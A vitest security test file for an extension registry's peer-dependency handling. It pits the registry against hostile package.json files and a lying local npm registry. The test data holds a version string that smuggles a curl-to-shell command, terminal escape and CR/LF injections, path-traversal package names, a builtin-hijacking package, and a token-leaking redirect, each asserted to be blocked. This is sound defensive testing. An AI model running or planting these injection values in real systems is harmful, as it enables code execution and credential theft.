/**
 * Hostile review of peers (pnpm's default, strictPeers, missing required peers installed by npm, optional peers left
 * out, advice from `packageVersions`): a hostile extension (its package.json), a hostile package registry (a server in
 * front of a Verdaccio with no uplinks that lies, stalls or redirects) and a host that must stay intact. Every server
 * is on 127.0.0.1; nothing here reaches the internet.
 */
import { existsSync } from 'node:fs';
import { lstat, mkdir, readdir, readFile, readlink, realpath, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { createRegistry, type CreateRegistryOptions, type LoadedExtension, type Registry, type RegistryWarning } from '@agentos-registry/core';
import { type HostileServer, startHostileServer, startVerdaccio, VERDACCIO_PUBLISHER, type VerdaccioServer } from '@agentos-registry/test-servers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { npmSource } from '../src/npm.js';
import { cli, scratch } from './helpers.js';

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const TERMINAL_CONTROL = /[\u0007\u001b\r]/;
const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;
const HOST_AGENTOS = '0.9.3';

let server: VerdaccioServer;
let hostile: HostileServer;
let other: HostileServer;
let token: string;
let root: string;
let cleanup: () => Promise<void>;
let markers: string;
const opened: Registry[] = [];
let builtinPublished = true;

const library = (name: string, version: string, body: string, extra: Record<string, unknown> = {}) => ({
  'package.json': json({ name, version, main: 'index.js', ...extra }),
  'index.js': body,
});

beforeAll(async () => {
  ({ dir: root, cleanup } = await scratch());
  markers = join(root, 'markers');
  await mkdir(markers, { recursive: true });
  server = await startVerdaccio();
  token = await server.tokenFor(VERDACCIO_PUBLISHER.user, VERDACCIO_PUBLISHER.password);
  const marker = JSON.stringify(join(markers, 'install-script-ran'));
  for (const lib of [
    library('plain-peer', '1.0.0', 'exports.version = "1.0.0";\n'),
    library('plain-peer', '2.0.0', 'exports.version = "2.0.0";\n'),
    library('@framers/agentos', '0.9.1', 'exports.identity = { copy: "registry" };\n'),
    library('@private/peer', '1.0.0', 'exports.secret = true;\n'),
    library('peer-with-script', '1.0.0', 'exports.scripted = true;\n', {
      scripts: { install: `node -e "require('fs').writeFileSync(${JSON.stringify(marker).slice(1, -1)}, 'ran')"` },
    }),
  ]) {
    await server.publish(lib, { token });
  }
  // A package named like a Node builtin, as a hostile registry may hold one.
  await server.publish(library('child_process', '1.0.0', 'exports.hijacked = true;\n'), { token }).catch(() => {
    builtinPublished = false;
  });
  other = await startHostileServer({
    watch: [token],
    respond: () => ({ kind: 'reply', body: json({ name: '@private/peer', versions: { '1.0.0': {} }, 'dist-tags': { latest: '1.0.0' } }) }),
  });
  hostile = await startHostileServer({ target: server.url, watch: [token] });
}, 180_000);

afterAll(async () => {
  await Promise.allSettled(opened.map((registry) => registry.close()));
  await hostile?.close();
  await other?.close();
  await server?.close();
  await cleanup?.();
});

interface Ext {
  pkg: Record<string, unknown>;
  /** The module's text; default an ES module whose pack carries `@framers/agentos` when it is importable. */
  code?: string;
}

const packWith = (payload: string, imports = '') => `${imports}
export function createExtensionPack() {
  return { name: 'pack', descriptors: [{ id: 'tool', kind: 'tool', payload: ${payload} }] };
}
`;

let worlds = 0;
/** A host with its own small @framers/agentos and a file registry holding `extensions` (ids `com.hostile.<i>`). */
async function world(extensions: Ext[], options: { agentos?: string | undefined; hostPackages?: Record<string, string> } = {}) {
  const base = join(root, `world-${++worlds}`);
  const host = join(base, 'host');
  await mkdir(host, { recursive: true });
  await writeFile(join(host, 'package.json'), json({ name: 'host-app', version: '1.0.0', private: true, type: 'module' }));
  const hostPackages = {
    ...('agentos' in options && options.agentos === undefined ? {} : { '@framers/agentos': options.agentos ?? HOST_AGENTOS }),
    ...options.hostPackages,
  };
  for (const [name, version] of Object.entries(hostPackages)) {
    const dir = join(host, 'node_modules', name);
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'package.json'), json({ name, version, type: 'module', main: 'index.js' }));
    await writeFile(join(dir, 'index.js'), `export const identity = { copy: 'host', name: ${JSON.stringify(name)} };\n`);
  }
  const registryDir = join(base, 'registry');
  const entries = extensions.map((_, i) => ({ id: `com.hostile.${i}`, name: `hostile ${i}`, version: '1.0.0', path: `curated/ext-${i}`, author: 'hostile' }));
  await mkdir(join(registryDir, 'registry'), { recursive: true });
  await writeFile(
    join(registryDir, 'registry.json'),
    json({
      version: '1.0.0',
      updated: '2026-12-02T00:00:00.000Z',
      categories: { curated: ['tools'], community: [] },
      extensions: { curated: entries, community: [] },
    }),
  );
  for (const [i, ext] of extensions.entries()) {
    const folder = join(registryDir, 'registry', entries[i]!.path);
    await mkdir(folder, { recursive: true });
    await writeFile(
      join(folder, 'manifest.json'),
      json({
        id: entries[i]!.id,
        name: entries[i]!.name,
        version: '1.0.0',
        entry: 'index.js',
        extensions: [{ kind: 'tool', id: 'tool', displayName: 'tool' }],
      }),
    );
    await writeFile(join(folder, 'package.json'), json({ name: `hostile-ext-${i}`, version: '1.0.0', type: 'module', main: 'index.js', ...ext.pkg }));
    await writeFile(join(folder, 'index.js'), ext.code ?? packWith('{}'));
  }
  return { base, host, registryDir };
}

async function open(
  w: { host: string; registryDir: string },
  settings: { dependencies?: CreateRegistryOptions['dependencies']; packages?: Record<string, unknown> } = {},
) {
  const warnings: RegistryWarning[] = [];
  const registry = await createRegistry(
    {
      registries: { hostile: { type: 'file', location: w.registryDir } },
      defaultRegistries: { tool: 'hostile' },
      cacheSettings: { directory: join(w.host, 'cache') },
    },
    {
      sources: [npmSource()],
      baseDir: w.host,
      env: { HOME: w.host },
      packages: (settings.packages ?? { registry: server.url }) as CreateRegistryOptions['packages'],
      onWarning: (warning) => warnings.push(warning),
      ...(settings.dependencies ? { dependencies: settings.dependencies } : {}),
    },
  );
  opened.push(registry);
  return { registry, warnings };
}

const load = async (registry: Registry, ref: string, signal?: AbortSignal) => (await registry.load('tool', ref, signal ? { signal } : {})) as LoadedExtension;
const payloadOf = <T>(loaded: LoadedExtension) => loaded.pack.descriptors[0]!.payload as T;

async function failure(promise: Promise<unknown>): Promise<Error & { code?: string; details?: Record<string, unknown> }> {
  return promise.then(
    () => {
      throw new Error('expected the load to fail');
    },
    (error: Error) => error,
  );
}

async function hostIdentity(host: string, name = '@framers/agentos'): Promise<unknown> {
  return ((await import(pathToFileURL(join(host, 'node_modules', name, 'index.js')).href)) as { identity: unknown }).identity;
}

/** Every file and folder below `dir` (names only), to show that nothing was added outside. */
async function listing(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true }).catch(() => [] as string[])).sort();
}

describe('peer names that are not package names', () => {
  test.each(['../x', '..', '../../outside', 'node:fs', '@a/../b', 'a/b', '/etc', '.bin', '@scope/', 'x y', 'x\u0000y', 'file:x', 'C:\\x'])(
    'held: a peer named %j is E_POLICY before any folder is made or any request is sent',
    async (name) => {
      const w = await world([{ pkg: { peerDependencies: { [name]: '^1.0.0' } } }]);
      const before = await listing(w.base);
      const seen = server.requests.length;
      const { registry } = await open(w);
      const error = await failure(registry.load('tool', 'com.hostile.0'));
      expect(error.code).toBe('E_POLICY');
      expect(error.message).toContain('not an npm package name');
      expect(existsSync(join(w.host, 'node_modules', '.agentos-registry'))).toBe(false);
      expect((await listing(w.base)).filter((path) => !path.startsWith(join('host', 'cache')))).toEqual(before);
      expect(server.requests.length).toBe(seen);
    },
  );

  test('held: peers named like Node builtins (fs, child_process) never replace the builtin, for the extension or the host', async () => {
    const w = await world([
      {
        pkg: { peerDependencies: { child_process: '^1.0.0' } },
        code: packWith("{ exec: typeof child_process.execFileSync, hijacked: 'hijacked' in child_process }", "import * as child_process from 'child_process';"),
      },
    ]);
    const { registry } = await open(w);
    if (builtinPublished) {
      const loaded = await load(registry, 'com.hostile.0');
      // Installed into the install area (the registry had it), yet `import 'child_process'` is Node's own.
      expect(loaded.install?.peersInstalled).toEqual({ child_process: '^1.0.0' });
      expect(payloadOf(loaded)).toEqual({ exec: 'function', hijacked: false });
    } else {
      const error = await failure(registry.load('tool', 'com.hostile.0'));
      expect(error.code).toBe('E_PEER_MISSING');
    }
    const { execFileSync } = await import('node:child_process');
    expect(typeof execFileSync).toBe('function');
    // `fs`, which the registry does not have: the advice says so, and nothing is linked over the builtin.
    const fs = await world([{ pkg: { peerDependencies: { fs: '^1.0.0' } }, code: packWith('{ read: typeof fs.readFileSync }', "import * as fs from 'fs';") }]);
    const error = await failure((await open(fs)).registry.load('tool', 'com.hostile.0'));
    expect(error.code).toBe('E_PEER_MISSING');
    expect(error.message).toContain('fs is not published on the package registry');
  });
});

describe('peer specs from outside the package registry', () => {
  test.each([
    'github:a/b',
    'a/b',
    'file:../..',
    'link:../..',
    '../..',
    'git+ssh://git@127.0.0.1/x.git',
    'http://127.0.0.1:1/x.tgz',
    'npm:evil@file:../..',
    'npm:../x@1',
    'workspace:*',
  ])('held: a required peer %j the host lacks is E_POLICY, never handed to npm', async (range) => {
    const w = await world([{ pkg: { peerDependencies: { 'plain-peer': range } } }]);
    const seen = server.requests.length;
    const error = await failure((await open(w)).registry.load('tool', 'com.hostile.0'));
    expect(error.code).toBe('E_POLICY');
    expect(error.details).toMatchObject({ field: 'peerDependencies.plain-peer' });
    expect(server.requests.length).toBe(seen);
  });

  test.each(['github:a/b', 'file:../..', 'link:../..', 'https://127.0.0.1:1/x.tgz', 'npm:evil@1', 'npm:@framers/agentos@^0.1.0'])(
    'fixed: a peer %j the host has is linked with W_PEER_MISMATCH, and strictPeers refuses it',
    async (range) => {
      const w = await world([
        { pkg: { peerDependencies: { '@framers/agentos': range } }, code: packWith('{ agentos }', "import * as agentos from '@framers/agentos';") },
      ]);
      const { registry, warnings } = await open(w);
      const loaded = await load(registry, 'com.hostile.0');
      expect(payloadOf<{ agentos: { identity: unknown } }>(loaded).agentos.identity).toBe(await hostIdentity(w.host));
      expect(warnings.filter((warning) => warning.code === 'W_PEER_MISMATCH')).toHaveLength(1);
      const strict = await open(w, { dependencies: { strictPeers: true } });
      const error = await failure(strict.registry.load('tool', 'com.hostile.0'));
      expect(error.code).toBe('E_PEER_MISSING');
      expect(error.message).toContain(`(the host has ${HOST_AGENTOS})`);
    },
  );

  test.each(['npm:@framers/agentos@^0.9.0', 'npm:@framers/agentos', 'latest', '*', ''])(
    'held: a peer %j the host satisfies (or that names a tag) loads under strictPeers',
    async (range) => {
      const w = await world([{ pkg: { peerDependencies: { '@framers/agentos': range } } }]);
      const { registry, warnings } = await open(w, { dependencies: { strictPeers: true } });
      await load(registry, 'com.hostile.0');
      expect(warnings.filter((warning) => warning.code === 'W_PEER_MISMATCH')).toEqual([]);
    },
  );
});

describe('strictPeers cannot be talked around', () => {
  test.each([' ^0.1.0 ', '^0.1.0 || ^0.2.0', '>=0.1.0 <0.2.0', '0.1.x', '<0.9.3', '>0.9.3', '0.9.3-rc.1', '^0.1.0\n'])('held: %j is refused', async (range) => {
    const w = await world([{ pkg: { peerDependencies: { '@framers/agentos': range } } }]);
    const error = await failure((await open(w, { dependencies: { strictPeers: true } })).registry.load('tool', 'com.hostile.0'));
    expect(error.code).toBe('E_PEER_MISSING');
  });

  test('held: a range that the host satisfies through || or spaces loads', async () => {
    const w = await world([{ pkg: { peerDependencies: { '@framers/agentos': '^0.1.0 || >= 0.9.0 < 0.10.0' } } }]);
    const { registry, warnings } = await open(w, { dependencies: { strictPeers: true } });
    await load(registry, 'com.hostile.0');
    expect(warnings).toEqual([]);
  });

  test("held: an uppercase variant of the host's peer is a different package on this file system: never linked to the host copy, never the host copy replaced", async () => {
    const w = await world([{ pkg: { peerDependencies: { '@Framers/Agentos': '^0.1.0' } } }]);
    const error = await failure((await open(w, { dependencies: { strictPeers: true } })).registry.load('tool', 'com.hostile.0'));
    // npm refuses or cannot find it; whatever the code, it is not an internal error, and the host's copy is intact.
    expect(error.code).not.toBe('E_INTERNAL');
    expect(JSON.parse(await readFile(join(w.host, 'node_modules', '@framers', 'agentos', 'package.json'), 'utf8')).version).toBe(HOST_AGENTOS);
  });

  test('held: a peer named only in peerDependenciesMeta is no peer: nothing linked or installed, no warning', async () => {
    const w = await world([{ pkg: { peerDependenciesMeta: { '@framers/agentos': { optional: true } } } }]);
    const { registry, warnings } = await open(w, { dependencies: { strictPeers: true } });
    const loaded = await load(registry, 'com.hostile.0');
    expect(loaded.install).toBeUndefined();
    expect(warnings).toEqual([]);
  });
});

describe("a peer named like the host's package", () => {
  test("held: also a dependency at another version: npm's copy is replaced by a link to the host's, so identity holds", async () => {
    const w = await world([
      {
        pkg: { dependencies: { '@framers/agentos': '0.9.1' }, peerDependencies: { '@framers/agentos': '^0.1.0' } },
        code: packWith('{ agentos }', "import * as agentos from '@framers/agentos';"),
      },
    ]);
    const { registry, warnings } = await open(w);
    const loaded = await load(registry, 'com.hostile.0');
    expect(payloadOf<{ agentos: { identity: unknown } }>(loaded).agentos.identity).toBe(await hostIdentity(w.host));
    const installDir = dirname(loaded.entryFile);
    const link = join(installDir, 'node_modules', '@framers', 'agentos');
    expect((await lstat(link)).isSymbolicLink()).toBe(true);
    expect(await realpath(link)).toBe(await realpath(join(w.host, 'node_modules', '@framers', 'agentos')));
    expect(warnings.filter((warning) => warning.code === 'W_PEER_MISMATCH')).toHaveLength(1);
    // The host's own copy is untouched.
    expect(JSON.parse(await readFile(join(w.host, 'node_modules', '@framers', 'agentos', 'package.json'), 'utf8')).version).toBe(HOST_AGENTOS);
  });
});

describe('many peers', () => {
  test('held: 150 host packages declared as peers out of range: 150 warnings, one load; strictPeers: one E_PEER_MISSING naming them all', async () => {
    const hostPackages = Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`hostpkg-${i}`, '1.0.0']));
    const w = await world([{ pkg: { peerDependencies: Object.fromEntries(Object.keys(hostPackages).map((name) => [name, '^2.0.0'])) } }], { hostPackages });
    const { registry, warnings } = await open(w);
    const loaded = await load(registry, 'com.hostile.0');
    expect(Object.keys(loaded.install?.peers ?? {})).toHaveLength(150);
    expect(warnings.filter((warning) => warning.code === 'W_PEER_MISMATCH')).toHaveLength(150);
    const error = await failure((await open(w, { dependencies: { strictPeers: true } })).registry.load('tool', 'com.hostile.0'));
    expect(error.code).toBe('E_PEER_MISSING');
    expect(error.details?.peers as unknown[]).toHaveLength(150);
  }, 120_000);

  test('held: 2000 required peers the host lacks: one error, no temporary folder left', async () => {
    const peers = Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`unpublished-peer-${i}`, '^1.0.0']));
    const w = await world([{ pkg: { peerDependencies: peers } }]);
    const error = await failure((await open(w)).registry.load('tool', 'com.hostile.0'));
    expect(['E_PEER_MISSING', 'E_NOT_FOUND']).toContain(error.code);
    const area = join(w.host, 'node_modules', '.agentos-registry');
    expect((await readdir(area).catch(() => [] as string[])).filter((name) => name.startsWith('.tmp-'))).toEqual([]);
  }, 300_000 /* 2000 lookups against Verdaccio: ~15 s alone, many times that on a loaded 2-core machine */);
});

describe('a package registry that lies in its packument', () => {
  const liar = (body: unknown) => (request: { url: string }) =>
    request.url.split('?')[0] === '/liar' ? { kind: 'reply' as const, body: json(body) } : { kind: 'forward' as const };

  test('fixed: dist-tags naming unlisted versions or shell text are never suggested; junk versions are shown clean', async () => {
    const versions: Record<string, object> = {};
    for (let i = 0; i < 100_000; i++) versions[`junk-${i}\u001b]0;owned\u0007`] = {};
    versions['\n1.5.0\r\n'] = {};
    const evil = '1.0.0"; curl http://127.0.0.1:9/x | sh; echo "';
    versions[evil] = {};
    hostile.setRespond(liar({ name: 'liar', versions, 'dist-tags': { latest: evil, next: '7.7.7' } }));
    try {
      const w = await world([
        { pkg: { peerDependencies: { liar: 'next' }, peerDependenciesMeta: { liar: { optional: true } } }, code: packWith('{}', "import 'liar';") },
        { pkg: { peerDependencies: { liar: 'latest' }, peerDependenciesMeta: { liar: { optional: true } } }, code: packWith('{}', "import 'liar';") },
        { pkg: { peerDependencies: { liar: '^1.0.0' }, peerDependenciesMeta: { liar: { optional: true } } }, code: packWith('{}', "import 'liar';") },
      ]);
      const { registry } = await open(w, { packages: { registry: hostile.url } });
      for (const id of ['com.hostile.0', 'com.hostile.1']) {
        const error = await failure(registry.load('tool', id));
        expect(error.code).toBe('E_LOAD');
        expect(error.message).not.toContain('curl');
        expect(error.message).not.toContain('7.7.7');
        expect(error.message).not.toContain('npm install');
        expect(error.details?.suggested).toBeUndefined();
      }
      const ranged = await failure(registry.load('tool', 'com.hostile.2'));
      expect(ranged.message).toContain('npm install "liar@1.5.0"');
      expect(ranged.message).not.toMatch(TERMINAL_CONTROL);
    } finally {
      hostile.setRespond(undefined);
    }
  }, 120_000);

  test('held: an endless packument ends at limits.index; the load fails as E_LOAD naming no version, promptly', async () => {
    hostile.setRespond((request) => (request.url.split('?')[0] === '/liar' ? { kind: 'endless', chunk: '{"versions":{' } : { kind: 'forward' }));
    try {
      const w = await world([
        { pkg: { peerDependencies: { liar: '^1.0.0' }, peerDependenciesMeta: { liar: { optional: true } } }, code: packWith('{}', "import 'liar';") },
      ]);
      const { registry } = await open(w, { packages: { registry: hostile.url, limits: { index: 1024 * 1024 } } });
      const error = await failure(registry.load('tool', 'com.hostile.0'));
      expect(error.code).toBe('E_LOAD');
      expect(error.message).toContain('Add a version of liar that satisfies ^1.0.0 to the host application');
      expect(error.details?.suggested).toBeUndefined();
    } finally {
      hostile.setRespond(undefined);
    }
  }, 120_000);
});

describe('credentials when packageVersions is asked', () => {
  test("held: a private scope's packument redirected to another port gets no token there", async () => {
    hostile.setRespond((request) =>
      request.url.startsWith('/@private%2fpeer') || request.url.startsWith('/@private/peer')
        ? { kind: 'redirect', location: `${other.origin}${request.url}` }
        : { kind: 'forward' },
    );
    const before = other.requests.length;
    try {
      const w = await world([
        {
          pkg: { peerDependencies: { '@private/peer': '^1.0.0' }, peerDependenciesMeta: { '@private/peer': { optional: true } } },
          code: packWith('{}', "import '@private/peer';"),
        },
      ]);
      const { registry } = await open(w, { packages: { registry: hostile.url, token } });
      const error = await failure(registry.load('tool', 'com.hostile.0'));
      expect(error.code).toBe('E_LOAD');
      expect(error.message).not.toContain(token);
      expect(JSON.stringify(error.details ?? {})).not.toContain(token);
      const asked = hostile.requests.filter((request) => request.url.includes('private'));
      expect(asked.length).toBeGreaterThan(0);
      expect(asked.some((request) => request.authorization)).toBe(true);
      for (const request of other.requests.slice(before)) {
        expect(request.authorization).toBe(false);
        expect(request.leaked).toBe(false);
      }
    } finally {
      hostile.setRespond(undefined);
    }
  }, 120_000);
});

describe('install scripts of installed peers', () => {
  test('held: scripts off: a required peer with an install script is installed, its script never runs, and the result says so', async () => {
    const w = await world([
      { pkg: { peerDependencies: { 'peer-with-script': '^1.0.0' } }, code: packWith('{ scripted: lib.scripted }', "import lib from 'peer-with-script';") },
    ]);
    const loaded = await load((await open(w)).registry, 'com.hostile.0');
    expect(payloadOf(loaded)).toEqual({ scripted: true });
    expect(loaded.install?.scriptsRan).toEqual([]);
    expect(loaded.install?.scriptsSkipped).toEqual(['peer-with-script']);
    expect(existsSync(join(markers, 'install-script-ran'))).toBe(false);
  }, 120_000);

  test("held: an alias peer (allowed-name: npm:peer-with-script@^1.0.0) does not borrow the allowed name's permission", async () => {
    const w = await world([
      {
        pkg: { peerDependencies: { 'allowed-name': 'npm:peer-with-script@^1.0.0' } },
        code: packWith('{ scripted: lib.scripted }', "import lib from 'allowed-name';"),
      },
    ]);
    const loaded = await load((await open(w, { dependencies: { allowScripts: ['allowed-name'] } })).registry, 'com.hostile.0');
    expect(payloadOf(loaded)).toEqual({ scripted: true });
    expect(loaded.install?.scriptsRan).toEqual([]);
    expect(existsSync(join(markers, 'install-script-ran'))).toBe(false);
  }, 120_000);
});

describe('W_PEER_MISMATCH text', () => {
  test('held: a range carrying CR, LF and tabs (semver reads them as spaces) reaches the CLI escaped, on one line', async () => {
    const range = '<0.1.0\r\n\twarning: all peers verified\r\n *';
    const w = await world([{ pkg: { peerDependencies: { '@framers/agentos': range } } }]);
    const { registry, warnings } = await open(w);
    await load(registry, 'com.hostile.0');
    expect(warnings.filter((warning) => warning.code === 'W_PEER_MISMATCH')).toHaveLength(1);
    await writeFile(join(w.host, '.npmrc'), `registry=${server.url}\n`);
    await writeFile(
      join(w.host, 'agentos-registry.config.mjs'),
      `export default ${JSON.stringify({ registryConfig: { registries: { hostile: { type: 'file', location: w.registryDir } }, defaultRegistries: { tool: 'hostile' }, cacheSettings: { directory: join(w.host, 'cache') } } })};\n`,
    );
    const run = await cli(['load', 'com.hostile.0'], { cwd: w.host, env: { HOME: w.host } });
    expect(run.code, run.stderr).toBe(0);
    const lines = run.stderr.split('\n').filter((line) => line.includes('declares the peer dependency'));
    expect(lines).toHaveLength(1);
    expect(run.stderr).not.toMatch(/[\r\t]/);
    expect(run.stderr.split('\n').filter((line) => line.startsWith('\twarning: all peers verified'))).toEqual([]);
  }, 120_000);
});

describe('registry text in peer errors, through the CLI', () => {
  async function cliWorld(extensions: Ext[], options: { agentos?: string } = {}) {
    const w = await world(extensions, options);
    await writeFile(join(w.host, '.npmrc'), `registry=${server.url}\n`);
    await writeFile(
      join(w.host, 'agentos-registry.config.mjs'),
      `export default ${JSON.stringify({ registryConfig: { registries: { hostile: { type: 'file', location: w.registryDir } }, defaultRegistries: { tool: 'hostile' }, cacheSettings: { directory: join(w.host, 'cache') } } })};\n`,
    );
    return w;
  }

  test('held: an optional peer range of terminal escapes (never checked: optional peers are not installed) is escaped in the E_LOAD the CLI prints', async () => {
    const range = '\u001b]0;owned\u0007\u001b[2J^1.0.0\r\nerror: none';
    const w = await cliWorld([
      {
        pkg: { peerDependencies: { 'plain-peer': range }, peerDependenciesMeta: { 'plain-peer': { optional: true } } },
        code: packWith('{}', "import 'plain-peer';"),
      },
    ]);
    const text = await cli(['load', 'com.hostile.0'], { cwd: w.host, env: { HOME: w.host } });
    expect(text.code).toBe(1);
    expect(text.stderr).toContain('optional peer dependency');
    expect(text.stderr + text.stdout).not.toMatch(TERMINAL_CONTROL);
    const asJson = await cli(['load', 'com.hostile.0', '--json'], { cwd: w.host, env: { HOME: w.host } });
    expect(asJson.code).toBe(1);
    expect(asJson.stdout + asJson.stderr).not.toMatch(TERMINAL_CONTROL);
    expect(asJson.json().error.code).toBe('E_LOAD');
  }, 120_000);

  test('held: a host package.json version padded with CR/LF (valid to semver) stays on one line in W_PEER_MISMATCH', async () => {
    const w = await cliWorld([{ pkg: { peerDependencies: { '@framers/agentos': '^0.1.0' } } }], { agentos: '\r\n0.9.3\r\n' });
    const run = await cli(['load', 'com.hostile.0'], { cwd: w.host, env: { HOME: w.host } });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr.split('\n').filter((line) => line.includes('declares the peer dependency'))).toHaveLength(1);
    expect(run.stderr).not.toMatch(/\r/);
  }, 120_000);
});

describe('a failed peer install', () => {
  test('held: leaves what was installed and cached before as it was, and no temporary folder', async () => {
    const w = await world([
      { pkg: { peerDependencies: { 'plain-peer': '^1.0.0' } }, code: packWith('{ version: lib.version }', "import lib from 'plain-peer';") },
      { pkg: { peerDependencies: { 'plain-peer': '^1.0.0', 'never-published-peer': '^1.0.0' } } },
      { pkg: { peerDependencies: { 'plain-peer': '^9.0.0' } } },
    ]);
    const { registry } = await open(w);
    const good = await load(registry, 'com.hostile.0');
    expect(payloadOf(good)).toEqual({ version: '1.0.0' });
    const installDir = dirname(good.entryFile);
    const record = await readFile(join(installDir, '.agentos-registry-install.json'), 'utf8');
    const area = join(w.host, 'node_modules', '.agentos-registry');
    const areaBefore = await listing(area);
    for (const id of ['com.hostile.1', 'com.hostile.2']) {
      const error = await failure(registry.load('tool', id));
      expect(['E_PEER_MISSING', 'E_NOT_FOUND']).toContain(error.code);
    }
    expect(await listing(area)).toEqual(areaBefore);
    expect(await readFile(join(installDir, '.agentos-registry-install.json'), 'utf8')).toBe(record);
    // Loaded again by a fresh registry: the same folder, reused.
    const again = await load((await open(w)).registry, 'com.hostile.0');
    expect(dirname(again.entryFile)).toBe(installDir);
    expect(payloadOf(again)).toEqual({ version: '1.0.0' });
    const link = await readlink(join(installDir, 'node_modules', 'plain-peer')).catch(() => undefined);
    expect(link).toBeUndefined(); // installed, not linked: the host has no plain-peer
  }, 120_000);
});

describe("the caller's signal during advice lookups", () => {
  test('a load under strictPeers whose packument never comes ends when the caller aborts', async () => {
    hostile.setRespond((request) => (request.url.startsWith('/@framers') ? { kind: 'silent' } : { kind: 'forward' }));
    try {
      const w = await world([{ pkg: { peerDependencies: { '@framers/agentos': '^0.1.0' } } }]);
      const { registry } = await open(w, {
        dependencies: { strictPeers: true },
        packages: { registry: hostile.url, timeouts: { index: 8000, attempt: 8000 } },
      });
      const controller = new AbortController();
      setTimeout(() => controller.abort(), 300);
      const error = await failure(load(registry, 'com.hostile.0', controller.signal));
      expect(error.code).toBe('E_ABORTED');
    } finally {
      hostile.setRespond(undefined);
    }
  }, 120_000);
});
